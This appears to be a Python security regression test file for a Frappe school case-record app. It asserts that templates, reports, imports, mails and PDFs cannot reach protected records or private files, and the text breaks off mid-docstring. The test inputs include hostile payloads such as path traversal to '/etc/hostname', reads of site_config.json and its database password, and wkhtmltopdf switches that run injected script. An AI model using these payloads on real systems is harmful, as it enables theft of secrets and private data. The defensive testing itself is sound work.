"""Templates, scripts and query reports that a site's users write never read or change a case
record (access/sandboxed_code.py), however they spell its DocType; the same code reading a
harmless DocType still runs (the positive control of each path), and the app's own prints do.

Over HTTP as the roles that may write such code, against a case of school B."""

import base64
import io
import json
import os
import subprocess
import sys
import unittest
from pathlib import Path
from unittest.mock import patch

import frappe
from frappe.tests.test_api import make_request
from frappe.utils import get_test_client
from frappe.utils.safe_exec import safe_exec

from meldcode_app.access import search_index
from meldcode_app.access.code_in_pages import as_the_desk_shows, is_script_url, out_of_place
from meldcode_app.access.sandboxed_code import watch_database
from meldcode_app.tests.factories import PUPIL, as_user, make_signal, open_dossier
from meldcode_app.tests.test_request_guard import (
	SYSTEM_MANAGER,
	a_new_connection,
	api_token,
	remove_records_of_school,
	request_as,
)
from meldcode_app.tests.utils import (
	BOARD_USER,
	PASSWORD,
	SCHOOLS,
	MeldcodeTestCase,
	make_user,
	queued_jobs,
	staff_user,
)

DOSSIER = '"Meldcode " ~ "Dossier"'  # a DocType's name no request shows
SCHOOL = '"Meldcode " ~ "School"'
SCHOOL_B = SCHOOLS["B"][0]
PAGE_ROUTE = "meldcode-sandbox-test"
FORMAT = "Meldcode Sandbox Test"
WEBSITE_MANAGER = "website.beheer@meldcode.test"
REPORT = "Meldcode Sandbox Test Report"


def builder_report(name: str = REPORT, columns_key: str = "fields") -> dict:
	"""A Report Builder report of ToDos, as the desk saves one."""
	return {
		"doctype": "Report",
		"report_name": name,
		"ref_doctype": "ToDo",
		"report_type": "Report Builder",
		"is_standard": "No",
		"module": "Core",
		"json": json.dumps({columns_key: [["name", "ToDo"]], "filters": []}),
	}


def emailed_report(report: str = REPORT, **values) -> dict:
	"""An Auto Email Report of ``report``, mailed to the System Manager."""
	return {
		"doctype": "Auto Email Report",
		"report": report,
		"enabled": 0,
		"email_to": SYSTEM_MANAGER,
		"format": "CSV",
		"frequency": "Daily",
		**values,
	}


def notes_titled(title: str, content: str = ""):
	"""A door as an app's report has it (rounds 23 and 24: ERPNext's asset report): one filter
	pasted into SQL, another passed as a parameter. Whitelisted only while its test runs."""
	return frappe.db.sql(
		f"select name from `tabNote` where title = '{title}' and content != %(content)s", {"content": content}
	)


def notes_between(filters: str):
	"""A door as Education's report "Program wise Fee Collection" has it (round 30): both filters
	pasted between quotes, no parameters. Whitelisted only while its test runs."""
	filters = frappe.parse_json(filters)
	return frappe.db.sql(
		f"select name from `tabNote` where title between '{filters.get('from_title')}' and '{filters.get('to_title')}'"
	)


def notes_beside(doctype: str):
	"""A door as ERPNext's report "Inactive Customers" has it (round 33): a DocType pasted into a
	table's quoted name. Whitelisted only while its test runs."""
	return frappe.db.sql(f"select count(*) from `tabNote` n, `tab{doctype}` so where so.name = n.name")


def database_error(text: str):
	"""A door whose statement fails with its text in MariaDB's message. Whitelisted only while its
	test runs."""
	if not text:
		frappe.throw("Geen tekst gegeven.")
	return frappe.db.sql(f"select `{text}` from `tabNote`")  # "Unknown column '<text>' ..."


def login_in_a_new_process(user: str, password: str) -> int:
	"""A login as the first request of a new process (a web worker's after a restart)."""
	script = (
		"import sys, frappe.app\n"
		"from werkzeug.test import Client\n"
		"answer = Client(frappe.app.application).post('/api/method/login', data={'usr': sys.argv[1],"
		" 'pwd': sys.argv[2]}, headers={'X-Frappe-Site-Name': sys.argv[3]})\n"
		"print(answer.status_code)\n"
	)
	done = subprocess.run(
		[sys.executable, "-c", script, user, password, frappe.local.site],
		cwd=os.path.abspath(frappe.local.sites_path),
		capture_output=True,
		text=True,
		timeout=300,
	)
	return int(done.stdout.split()[-1]) if done.stdout.split() else done.returncode


def login_in_this_process(user: str, password: str) -> int:
	return make_request(
		target=get_test_client(use_cookies=False).post,
		args=("/api/method/login",),
		kwargs={"data": {"usr": user, "pwd": password}},
	).status_code


class TestSandboxedCode(MeldcodeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		make_user(SYSTEM_MANAGER, "Systeem", "System Manager")
		cls.token = api_token(SYSTEM_MANAGER)
		cls.signal = make_signal("B", situation="Onveranderde tekst van school B.")
		cls.dossier = open_dossier("B", [cls.signal.name]).name
		frappe.db.commit()

	@classmethod
	def tearDownClass(cls):
		frappe.set_user("Administrator")
		remove_records_of_school(SCHOOL_B)
		frappe.db.delete("Web Page", {"route": ("like", f"{PAGE_ROUTE}%")})
		for doctype, name in (("Print Format", FORMAT), ("Report", REPORT)):
			frappe.db.delete(doctype, {"name": name})
		frappe.db.commit()
		super().tearDownClass()

	def setUp(self):
		super().setUp()
		frappe.local.meldcode_sql_sent = None  # what an earlier request sent is no SQL of the test's

	def call(self, door, http="post", /, **params):
		frappe.db.rollback()
		try:
			return request_as(self.token, door, http, **params)
		finally:
			frappe.local.meldcode_sql_sent = None

	def preview(self, template):
		"""A message preview (Auto Repeat) of one's own User, rendering ``template``."""
		return self.call(
			"frappe.automation.doctype.auto_repeat.auto_repeat.generate_message_preview",
			reference_dt="User",
			reference_doc=SYSTEM_MANAGER,
			message=template,
		)

	def test_a_message_preview_reads_and_writes_no_case(self):
		status, answer = self.preview(f"{{{{ frappe.get_all({SCHOOL}, pluck='name') }}}}")
		self.assertEqual(status, 200, answer)
		self.assertIn(SCHOOL_B, json.dumps(answer), "the positive control: a harmless DocType renders")
		for template in (
			f"{{{{ frappe.get_all({DOSSIER}, fields=['pupil_name']) }}}}",
			f"{{{{ frappe.get_list({DOSSIER}, fields=['pupil_name']) }}}}",
			f"{{{{ frappe.db.get_value({DOSSIER}, {{}}, 'pupil_name') }}}}",
			f"{{{{ frappe.get_doc({DOSSIER}, '{self.dossier}').pupil_name }}}}",
			"{{ frappe.db.sql('select pupil_name from `tab' ~ 'Meldcode Dossier`') }}",
			"{{ frappe.db.sql('select data from tabVersion where ref_doctype like \"Meldcode%\"') }}",
			f"{{{{ frappe.qb.from_({DOSSIER}).select('pupil_name').run() }}}}",
		):
			status, answer = self.preview(template)
			self.assertNotIn(PUPIL, json.dumps(answer), template)
			self.assertNotEqual(status, 200, template)
		# Round 69: the catalogue's row count of each case table, built with frappe.qb.
		status, answer = self.preview(f"{{{{ frappe.qb.from_({SCHOOL}).select('name').run() }}}}")
		self.assertIn(SCHOOL_B, json.dumps(answer), "the positive control: frappe.qb in a template")
		tables = "frappe.qb.Schema('information_schema').tables"
		status, answer = self.preview(
			f"{{{{ frappe.qb.from_({tables}).select('table_name', 'table_rows')"
			".where(frappe.qb.Field('table_name').like('tabMeld%')).run() }}"
		)
		self.assertNotIn("tabMeldcode", json.dumps(answer))
		self.assertNotEqual(status, 200)

		# Round 70: the same subquery as a filter of Frappe's own count, a row count per request.
		def counted(names):
			return self.preview(f"{{{{ frappe.db.count('User', frappe.qb.Field('name').isin({names})) }}}}")

		status, answer = counted("['Administrator']")
		self.assertEqual((status, answer.get("message")), (200, "1"), "the positive control")
		subquery = (
			f"frappe.qb.from_({tables}).select(frappe.qb.functions('CONCAT', 'Administrator'))"
			".where(frappe.qb.Field('table_rows').gte(0))"
		)
		status, answer = counted(subquery)
		self.assertNotEqual(status, 200, answer)
		self.preview(
			f"{{{{ frappe.db.set_value('Meldcode ' ~ 'Signal', '{self.signal.name}', 'situation', 'Veranderd') }}}}"
			"{{ frappe.db.commit() }}"
		)
		frappe.db.rollback()
		self.assertEqual(
			frappe.db.get_value("Meldcode Signal", self.signal.name, "situation"),
			"Onveranderde tekst van school B.",
		)

	def test_an_email_group_takes_no_address_from_a_case(self):
		"""Round 160's lead: Frappe's e-mail group imports the address of every record of the
		DocType it is given (``import_from``, no permission check), which a System Manager may run
		once she gives herself the Newsletter Manager role: a Communication of a dossier names the
		parent who wrote. It imports none from the app's records, their traces or accounts. The
		control: the members of another group are imported."""
		make_user(SYSTEM_MANAGER, "Systeem", "Newsletter Manager")
		mail = frappe.get_doc(
			{
				"doctype": "Communication",
				"communication_type": "Communication",
				"communication_medium": "Email",
				"sent_or_received": "Received",
				"subject": "Over school",
				"sender": "ouder.geheim@example.com",
				"reference_doctype": "Meldcode Dossier",
				"reference_name": self.dossier,
			}
		).insert(ignore_permissions=True)
		other, group = (
			frappe.get_doc({"doctype": "Email Group", "title": title}).insert()
			for title in ("Meldcode Testgroep Oud", "Meldcode Testgroep")
		)
		frappe.get_doc(
			{"doctype": "Email Group Member", "email_group": other.name, "email": "lid@example.com"}
		).insert()
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		for made in (group, other):
			self.addCleanup(frappe.db.delete, "Email Group Member", {"email_group": made.name})
			self.addCleanup(frappe.db.delete, "Email Group", {"name": made.name})
		self.addCleanup(frappe.db.delete, "Communication", {"name": mail.name})
		door = "frappe.email.doctype.email_group.email_group.import_from"
		for doctype in ("Communication", "ToDo", "User", "Meldcode Dossier", "Email Queue"):
			status, answer = self.call(door, name=group.name, doctype=doctype)
			self.assertEqual(status, 403, (doctype, answer))
		status, answer = self.call(door, name=group.name, doctype="Email Group Member")
		imported = frappe.get_all("Email Group Member", {"email_group": group.name}, pluck="email")
		self.assertIn("lid@example.com", imported, f"the control: {status} {answer}")
		self.assertNotIn("ouder.geheim@example.com", imported)

	def test_a_prepared_result_is_read_by_its_maker_only(self):
		"""Round 164: an aandachtsfunctionaris generated a prepared report of ToDos, whose result
		held her case's ToDo; a report's run or export naming that result (``prepared_report_name``)
		gave it to anyone who had its name, and a System Manager downloaded it and its file. The
		control: its maker reads it through the same door."""
		from frappe.core.doctype.prepared_report.prepared_report import create_json_gz_file

		maker, report = staff_user("B", "Aandachtsfunctionaris"), "Mijn taken test"
		frappe.db.delete("Report", {"name": report})
		frappe.get_doc(
			{
				"doctype": "Report",
				"report_name": report,
				"report_type": "Custom Report",
				"reference_report": "ToDo",
				"ref_doctype": "ToDo",
				"is_standard": "No",
				"prepared_report": 1,
				"module": "Desk",
				"roles": [{"role": "All"}],
			}
		).insert()
		self.addCleanup(frappe.db.delete, "Report", {"name": report})
		if not frappe.db.exists("Custom Role", {"report": "ToDo"}):  # as round 164's System Manager did
			role = frappe.get_doc(
				{
					"doctype": "Custom Role",
					"report": "ToDo",
					"ref_doctype": "ToDo",
					"roles": [{"role": "All"}],
				}
			)
			role.insert()
			self.addCleanup(frappe.db.delete, "Custom Role", {"name": role.name})
		results = {}
		for owner in (maker, SYSTEM_MANAGER):
			result = frappe.get_doc(
				{"doctype": "Prepared Report", "report_name": report, "status": "Completed", "filters": "{}"}
			)
			result.set_new_name()
			result.db_insert()  # as Frappe's job leaves it, without queueing one
			frappe.db.set_value("Prepared Report", result.name, "owner", owner, update_modified=False)
			create_json_gz_file(
				{"result": [{"description": f"taak van {owner}"}], "columns": []},
				"Prepared Report",
				result.name,
				"ToDo",
			)  # Frappe's job makes the file as the report's maker
			frappe.db.set_value(
				"File", {"attached_to_name": result.name}, "owner", owner, update_modified=False
			)
			results[owner] = result.name
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)

		def remove():  # from the app's code: Prepared Report is a table only Frappe and the app read
			for name in results.values():
				frappe.db.delete("File", {"attached_to_name": name})
				frappe.db.delete("Prepared Report", {"name": name})

		self.addCleanup(remove)
		theirs, own = results[maker], results[SYSTEM_MANAGER]
		for door in ("frappe.desk.query_report.run", "frappe.desk.query_report.export_query"):
			status, answer = self.call(
				door, report_name=report, filters={"prepared_report_name": theirs}, are_default_filters=0
			)
			self.assertEqual(status, 403, (door, answer))
		status, answer = self.call(
			"frappe.desk.query_report.run",
			report_name=report,
			filters={"prepared_report_name": own},
			are_default_filters=0,
		)
		self.assertNotEqual(status, 403, f"the control: her own result passes: {answer}")
		download = "frappe.core.doctype.prepared_report.prepared_report.download_attachment"
		status, answer = self.call(download, dn=theirs)
		self.assertNotIn("taak van", str(answer))
		listed = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_list("Prepared Report", filters={"name": ("in", [theirs, own])}, pluck="name")
		)
		self.assertEqual(listed, [own], "a System Manager lists her own result only")
		# Round 167: Frappe's conversion to CSV (and a custom report's stored filters) read the result
		# by its name past every door: the result is read as its maker only.
		result = frappe.get_doc("Prepared Report", theirs)
		self.assertRaises(frappe.PermissionError, as_user(SYSTEM_MANAGER), result.get_prepared_data)
		self.assertIn(b"taak van", as_user(maker)(result.get_prepared_data), "the control: its maker")
		token = api_token(maker)
		frappe.db.commit()
		self.addCleanup(setattr, frappe.local, "meldcode_sql_sent", None)
		status, answer = request_as(
			token,
			"frappe.desk.query_report.run",
			"post",
			report_name=report,
			filters={"prepared_report_name": theirs},
			are_default_filters=0,  # Frappe's run of a custom report without saved filters fails otherwise
		)
		self.assertIn(f"taak van {maker}", str(answer), f"the control: its maker reads it: {status}")

	def test_an_import_updates_only_what_its_writer_reads_when_it_runs(self):
		"""Round 164: a System Manager's update import was judged when saved, with a harmless
		file; a file attached to it and made private then moved, and Frappe wrote its address into
		the import past its hooks. When it ran, "No changes to update" for the right guess and a
		refusal naming the dossier for a wrong one told what a case's ToDo said. When it runs, a
		record its writer may not read is one that is not there. The control: her own ToDo is
		updated."""
		from frappe.core.doctype.data_import.data_import import start_import

		case_todo = frappe.get_doc(
			{
				"doctype": "ToDo",
				"description": "Geheime taak van de zaak",
				"reference_type": "Meldcode Dossier",
				"reference_name": self.dossier,
				"allocated_to": staff_user("B", "Aandachtsfunctionaris"),
			}
		).insert(ignore_permissions=True)
		own = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_doc({"doctype": "ToDo", "description": "Eigen taak"}).insert()
		)

		def uploaded(rows):
			content = "ID,Description\n" + "".join(f"{name},{text}\n" for name, text in rows)
			file = {
				"doctype": "File",
				"file_name": f"taken-{frappe.generate_hash(length=8)}.csv",
				"is_private": 1,
			}
			return as_user(SYSTEM_MANAGER)(
				lambda: frappe.get_doc({**file, "content": content}).insert()
			).file_url

		harmless = uploaded([(own.name, "Eigen taak")])
		swapped = uploaded(
			[
				(own.name, "Eigen taak bijgewerkt"),
				(case_todo.name, "Geheime taak van de zaak"),
				(case_todo.name, "Fout"),
			]
		)
		data_import = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_doc(
				{
					"doctype": "Data Import",
					"reference_doctype": "ToDo",
					"import_type": "Update Existing Records",
					"import_file": harmless,
				}
			).insert()
		)
		frappe.db.set_value(
			"Data Import", data_import.name, "import_file", swapped
		)  # as Frappe's move writes it
		frappe.db.commit()  # the import rolls back what fails
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Data Import Log", {"data_import": data_import.name})
		self.addCleanup(frappe.db.delete, "Data Import", {"name": data_import.name})
		self.addCleanup(frappe.db.delete, "File", {"file_url": ("in", [harmless, swapped])})
		self.addCleanup(frappe.db.delete, "ToDo", {"name": ("in", [case_todo.name, own.name])})
		frappe.clear_messages()  # the importer logs the messages of a row that fails
		as_user(SYSTEM_MANAGER)(start_import, data_import.name)  # the job, as its sender
		self.assertNotIn(
			frappe.db.get_value("Data Import", data_import.name, "status"),
			("Error", "Pending"),
			frappe.db.get_value("Data Import", data_import.name, "template_warnings"),
		)
		logs = frappe.get_all(
			"Data Import Log", {"data_import": data_import.name}, ["success", "messages", "row_indexes"]
		)
		refused = sorted(json.loads(log.messages)[-1]["message"] for log in logs if not log.success)
		self.assertEqual(len(refused), 2, logs)
		self.assertEqual(refused[0], refused[1], "the right guess and the wrong one are answered alike")
		self.assertNotIn("Meldcode", refused[0])
		self.assertEqual(
			frappe.db.get_value("ToDo", case_todo.name, "description"), "Geheime taak van de zaak"
		)
		self.assertEqual(
			frappe.db.get_value("ToDo", own.name, "description"), "Eigen taak bijgewerkt", "the control"
		)

	def test_a_private_file_is_named_and_read_by_who_may_download_it(self):
		"""Round 167: a user's picture, or a File of one's own, naming another user's private file
		(a case-team member's prepared result) made a File row its saver owns and so downloads;
		a Data Import's preview read any File by its address. A new File without content names
		a file its writer may download, and an import reads one likewise. The controls: one's own
		file."""
		maker = staff_user("B", "Aandachtsfunctionaris")
		theirs, own = (
			as_user(user)(
				lambda: frappe.get_doc(
					{
						"doctype": "File",
						"file_name": f"taken-{frappe.generate_hash(length=8)}.csv",
						"is_private": 1,
						"content": "Description\nGeheime taak\n",
					}
				).insert()
			).file_url
			for user in (maker, SYSTEM_MANAGER)
		)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "File", {"file_url": ("in", [theirs, own])})
		self.assertNotEqual(theirs, own, "the same content is no one else's file")
		for url, allowed in ((theirs, False), (own, True)):
			status, answer = self.call(
				"frappe.client.insert",
				doc={"doctype": "File", "file_url": url, "is_private": 1, "file_name": "mijn.csv"},
			)
			self.assertEqual(status == 200, allowed, (url, answer))

		# Round 169: stored as this site's address with another port it counted as a remote file,
		# and a request with the site's own address read it from the disk (zipped).
		def zipped(name) -> str:
			import io
			import zipfile

			answer = make_request(
				target=get_test_client(use_cookies=False).post,
				args=("/api/method/frappe.core.api.file.zip_files",),
				kwargs={"headers": {"Authorization": self.token}, "data": {"files": json.dumps([name])}},
			)
			if not zipfile.is_zipfile(io.BytesIO(answer.get_data())):
				return answer.get_data(as_text=True)  # a refusal
			with zipfile.ZipFile(io.BytesIO(answer.get_data())) as archive:
				return " ".join(archive.read(entry).decode() for entry in archive.namelist())

		# Links name the site's own address whatever Host a request names (round 197): a File
		# stored with another host's address is remote wherever it is read.
		remote = {"doctype": "File", "file_name": "elders.csv", "is_private": 1}
		for address in (frappe.utils.get_url(), "http://localhost:8999"):
			status, answer = request_as(
				{"Authorization": self.token, "Host": "localhost:8999"},
				"frappe.client.insert",
				"post",
				doc={**remote, "file_url": f"{address}{theirs}"},
			)
			if status == 200:
				self.addCleanup(frappe.db.delete, "File", {"name": answer["name"]})
				self.assertNotIn("Geheime taak", zipped(answer["name"]), address)
		mine = frappe.db.get_value("File", {"file_url": own})
		self.assertIn("Geheime taak", zipped(mine), "the control: her own file")
		data_import = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_doc(
				{"doctype": "Data Import", "reference_doctype": "Note", "import_type": "Insert New Records"}
			).insert()
		)
		frappe.db.commit()
		self.addCleanup(frappe.db.delete, "Data Import", {"name": data_import.name})
		preview = "frappe.core.doctype.data_import.data_import.get_preview_from_template"
		status, answer = self.call(preview, data_import=data_import.name, import_file=theirs)
		self.assertNotIn("Geheime taak", str(answer))
		status, answer = self.call(preview, data_import=data_import.name, import_file=own)
		self.assertIn("Geheime taak", str(answer), f"the control: her own file: {status}")

	def test_a_mail_embeds_only_what_its_sender_may_open(self):
		"""Round 170: Frappe's mail embeds the file an ``embed="<path>"`` in its text names, opened
		as given: a Website User's mail (Communication ``make``) carried another user's private
		file, site_config.json and MariaDB's own table files, a session among them. A mail embeds a
		file of the site's files folders its sender may open. The control: her own file."""
		from frappe.email import email_body

		def uploaded(user):
			content = f"Bijlage van {user} {frappe.generate_hash(length=8)}"
			file = {
				"doctype": "File",
				"file_name": f"bijlage-{frappe.generate_hash(length=8)}.txt",
				"is_private": 1,
			}
			return as_user(user)(lambda: frappe.get_doc({**file, "content": content}).insert()).file_url

		theirs, own = uploaded(staff_user("B", "Aandachtsfunctionaris")), uploaded(SYSTEM_MANAGER)
		with patch.object(frappe.local, "request", object(), create=True):  # as in her request
			embedded = {
				path: as_user(SYSTEM_MANAGER)(email_body.get_filecontent_from_path, path)
				for path in (theirs.lstrip("/"), "site_config.json", "../../../etc/hostname", own.lstrip("/"))
			}
		self.assertEqual([path for path, content in embedded.items() if content], [own.lstrip("/")])
		self.assertIn(b"Bijlage van", embedded[own.lstrip("/")], "the control: her own file")

	def test_a_queued_mail_carries_only_what_its_sender_may_open(self):
		"""Round 171: Frappe builds a queued mail's attachments later, in the mail job as
		Administrator: a mail made with ``print_html`` naming another user's private picture
		carried it in its PDF, and a Newsletter's attachment row another user's private file. A
		queued mail's files are built as its sender, and a file field, or a text's picture (round
		178), names a file its writer may download. The controls: her own picture and file."""
		from email import message_from_bytes
		from email.mime.multipart import MIMEMultipart

		from frappe.email.doctype.email_queue.email_queue import SendMailContext
		from PIL import Image

		def picture(user):
			noise, content = Image.frombytes("RGB", (160, 160), os.urandom(160 * 160 * 3)), io.BytesIO()
			noise.save(content, "PNG")
			file = {
				"doctype": "File",
				"file_name": f"foto-{frappe.generate_hash(length=8)}.png",
				"is_private": 1,
			}
			return as_user(user)(lambda: frappe.get_doc({**file, "content": content.getvalue()}).insert())

		theirs, own = picture(staff_user("B", "Aandachtsfunctionaris")), picture(SYSTEM_MANAGER)

		def mailed(attachment) -> dict[str, int]:
			"""The files of her queued mail as the mail job sends it: name and size."""
			queue = frappe.get_doc(
				{
					"doctype": "Email Queue",
					"name": frappe.generate_hash(length=10),
					"owner": SYSTEM_MANAGER,
					"attachments": json.dumps([attachment]),
				}
			)
			message = message_from_bytes(
				SendMailContext(queue).include_attachments(MIMEMultipart().as_string())
			)
			return {part.get_filename(): len(part.get_payload(decode=True)) for part in message.get_payload()}

		def printed(file):
			html = f'<p>Verslag</p><img src="{file.file_url}">'
			pdf = {"print_format_attachment": 1, "doctype": "User", "name": SYSTEM_MANAGER, "html": html}
			return sum(mailed({**pdf, "lang": "en", "print_letterhead": 0}).values())

		from frappe.utils.pdf import inline_private_images

		accented = own.file_url.replace("/private/", "/prívate/")  # the database finds the File by it
		for address, inlined in ((own.file_url, True), (accented, False)):  # round 180
			html = as_user(SYSTEM_MANAGER)(inline_private_images, f'<img src="{address}">')
			self.assertEqual("data:image/png;base64" in html, inlined, address)
		self.assertGreater(printed(own), 25_000, "the control: her own picture is in the PDF")
		self.assertLess(printed(theirs), 15_000)
		self.assertIn(own.file_name, mailed({"fid": own.name}), "the control: her own file")
		self.assertRaises(frappe.DoesNotExistError, mailed, {"fid": theirs.name})

		if not frappe.db.exists("Email Group", "Ouders"):
			frappe.get_doc({"doctype": "Email Group", "title": "Ouders"}).insert()
		frappe.get_doc("User", SYSTEM_MANAGER).add_roles("Newsletter Manager")  # as round 171's did

		def newsletter(file):
			letter = {
				"doctype": "Newsletter",
				"subject": f"Nieuws {frappe.generate_hash(length=8)}",
				"sender_email": SYSTEM_MANAGER,
			}
			rows = {
				"email_group": [{"email_group": "Ouders"}],
				"attachments": [{"attachment": file.file_url}],
			}
			return as_user(SYSTEM_MANAGER)(lambda: frappe.get_doc({**letter, **rows}).insert())

		self.assertTrue(newsletter(own).name, "the control: her own file is attached")
		self.assertRaises(frappe.DoesNotExistError, newsletter, theirs)

		# Round 178: a login note's picture of another's private file, in any spelling
		def note(address):
			content = f'<p>Welkom</p><img src="{address}">'
			note = {
				"doctype": "Note",
				"title": f"Welkom {frappe.generate_hash(length=6)}",
				"content": content,
			}
			return as_user(SYSTEM_MANAGER)(lambda: frappe.get_doc(note).insert())

		self.assertTrue(note(own.file_url).name, "the control: her own picture")
		for address in (theirs.file_url, theirs.file_url.upper(), theirs.file_url.replace("/", "%2F")):
			try:
				saved = note(address).content
			except (frappe.DoesNotExistError, frappe.PermissionError):
				continue  # refused
			self.assertNotIn(theirs.file_name.lower(), saved.lower(), address)  # or left out

	def test_a_pdf_is_asked_for_its_layout_only(self):
		"""Round 172: Frappe hands ``download_multi_pdf``'s options to wkhtmltopdf and sets its own
		switches that keep scripts and local files out with ``dict.update``, which keeps a key where
		the caller put it: a teacher who listed those first and switched them back on after printed
		the site's configuration (and the case file, and the database's files) on her own Note. A
		PDF is asked for its layout only. The control: the orientation asked is kept."""
		from frappe.utils.print_format import download_multi_pdf
		from pypdf import PdfReader

		note = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_doc(
				{
					"doctype": "Note",
					"title": f"Notitie {frappe.generate_hash(length=8)}",
					"content": "Eigen notitie",
				}
			).insert()
		)
		config = os.path.abspath(frappe.get_site_path("site_config.json"))
		read = f"var x=new XMLHttpRequest();x.open('GET','file://{config}',false);x.send();"
		frappes_own = ("print-media-type", "background", "images", "quiet", "encoding", "margin-right")
		switched_back = {
			**dict.fromkeys((*frappes_own, "margin-left", "page-size"), ""),
			**dict.fromkeys(
				("disable-javascript", "disable-local-file-access", "disable-smart-shrinking"), ""
			),
			**dict.fromkeys(("enable-javascript", "enable-local-file-access"), ""),
			"javascript-delay": "300",
			"run-script": read + "document.body.innerText='GELEZEN '+x.responseText;",
		}

		def printed(options):
			as_user(SYSTEM_MANAGER)(
				download_multi_pdf, "Note", json.dumps([note.name]), options=json.dumps(options)
			)
			page = PdfReader(io.BytesIO(frappe.local.response.filecontent)).pages[0]
			return " ".join(page.extract_text().split()), page.mediabox.width > page.mediabox.height

		text, _landscape = printed(switched_back)
		self.assertNotIn("db_password", text)
		self.assertNotIn("GELEZEN", text)
		self.assertIn("Eigen notitie", text, "the note itself is printed")
		self.assertTrue(printed({"orientation": "Landscape"})[1], "the control: the layout asked")
		self.assertFalse(printed({"orientation": "Portrait"})[1], "the control: the layout asked")

	def test_a_method_runs_with_the_session_for_the_sites_own_script_only(self):
		"""Round 175: a link of another site made a case-team member send a mail with a page of
		frames (``print_html``, a GET with her session), and wkhtmltopdf fetched the frames with
		her session: her signals and dossiers went to the link's maker as a PDF. Round 177: a
		picture on the site's own page, "/private/files/x.png?cmd=…", did the same without a click.
		A method another site asks for, or a tag fetches, runs as a guest; "cmd" runs on the
		site's root only; a mail is sent by a post only; a PDF fetches the site as a guest. The
		controls: the site's own script asks as her, and a PDF's frame is fetched."""
		from urllib.parse import urlparse

		from pypdf import PdfReader

		teacher = staff_user("A", "Teacher")
		browser = get_test_client(use_cookies=True)
		site = {"Host": urlparse(frappe.utils.get_url()).netloc, "X-Frappe-Site-Name": frappe.local.site}

		def get(path, started_by="same-origin", fetched_for="empty", **query):
			mode = "navigate" if fetched_for == "document" else "cors"
			headers = {
				**site,
				"Sec-Fetch-Site": started_by,
				"Sec-Fetch-Dest": fetched_for,
				"Sec-Fetch-Mode": mode,
			}
			kwargs = {"headers": headers, "query_string": query}
			return make_request(target=browser.get, args=(path,), kwargs=kwargs)

		# as the login page logs in: it posts "cmd" to /login
		login = {"headers": site, "data": {"cmd": "login", "usr": teacher, "pwd": PASSWORD}}
		self.assertEqual(make_request(target=browser.post, args=("/login",), kwargs=login).status_code, 200)
		whoami = "/api/method/frappe.auth.get_logged_user"
		self.assertEqual(get(whoami).json["message"], teacher, "the control: the site's own page")
		for started_by in ("cross-site", "same-site"):
			self.assertEqual(get(whoami, started_by).status_code, 403, started_by)
		self.assertEqual(get("/api/method/ping", "cross-site").json["message"], "pong")
		self.assertEqual(get(whoami, fetched_for="image").status_code, 403, "a picture")
		# round 180: the desk posts its arguments; a stored method name "x?…" carried its own
		page = {"Authorization": self.token, "Sec-Fetch-Site": "same-origin"}
		self.assertEqual(request_as(page, "frappe.auth.get_logged_user?user=x", "post")[0], 403)
		self.assertEqual(request_as(page, "frappe.auth.get_logged_user", "post")[0], 200, "the control")
		self.assertEqual(get(whoami, fetched_for="document").status_code, 403, "a link followed")
		# Round 191: over plain HTTP a browser tells nothing of where a request comes from.
		browser_over_http = {**site, "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0"}

		def told_nothing(path, method="get", **headers):
			kwargs = {"headers": {**browser_over_http, **headers}}
			return make_request(target=getattr(browser, method), args=(path,), kwargs=kwargs)

		self.assertEqual(told_nothing(whoami).status_code, 403, "a link, picture or frame")
		own_script = told_nothing(whoami, **{"X-Frappe-CSRF-Token": "the desk's"})
		self.assertEqual(own_script.json["message"], teacher, "the control: the desk's own script")
		self.assertEqual(told_nothing(whoami + "?user=x", "post").status_code, 403, "a stored method?args")
		asked = {"cmd": "frappe.auth.get_logged_user"}
		self.assertEqual(get("/", **asked).json["message"], teacher, "the control: her page's script")
		self.assertEqual(get("/private/files/x.png", **asked).status_code, 403)
		note = as_user(teacher)(
			lambda: frappe.get_doc(
				{"doctype": "Note", "title": f"Eigen {frappe.generate_hash(length=6)}"}
			).insert()
		)
		frappe.db.commit()
		download = "/api/method/frappe.utils.print_format.download_pdf"
		opened = get(download, fetched_for="document", doctype="Note", name=note.name)
		self.assertEqual(opened.mimetype, "application/pdf", "the control: a download opened in a window")
		# a GET never sends a mail or changes records in bulk (the desk posts them)
		mail = {"recipients": "buiten@example.org", "content": "x", "send_email": 0}
		make = "frappe.core.doctype.communication.email.make"
		self.assertEqual(request_as(self.token, make, "get", **mail)[0], 403)
		self.assertEqual(request_as(self.token, make, "post", **mail)[0], 200, "the control: posted")
		bulk = "frappe.desk.doctype.bulk_update.bulk_update.submit_cancel_or_update_docs"
		own = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_doc(
				{"doctype": "Note", "title": f"Eigen {frappe.generate_hash(length=6)}"}
			).insert()
		)
		frappe.db.commit()
		update = {
			"doctype": "Note",
			"docnames": [own.name],
			"action": "update",
			"data": {"content": "bijgewerkt"},
		}
		self.assertEqual(request_as(self.token, bulk, "get", **update)[0], 403)
		self.assertEqual(request_as(self.token, bulk, "post", **update)[0], 200, "the control: posted")
		self.assertEqual(frappe.db.get_value("Note", own.name, "content"), "bijgewerkt")

		def printed(method):
			frame = f'<iframe src="{frappe.utils.get_url()}/api/method/{method}"></iframe>'
			pdf = get("/api/method/frappe.utils.print_format.report_to_pdf", html=f"<div>{frame}</div>")
			if pdf.mimetype != "application/pdf":
				return pdf.get_data(as_text=True)  # wkhtmltopdf fails on a refused frame
			return " ".join(PdfReader(io.BytesIO(pdf.get_data())).pages[0].extract_text().split())

		self.assertIn("pong", printed("ping"), "the control: the page's frames are fetched")
		self.assertNotIn(teacher, printed("frappe.auth.get_logged_user"))

	def test_a_search_applies_permissions_and_a_comments_preview_is_text(self):
		"""Round 189: Frappe's search with ``ignore_user_permissions`` skipped every permission hook
		for anyone with a role's read: a teacher and a parent's account read a case's ToDos, a System
		Manager its comments. Round 188: Frappe copies a comment's start into its record's
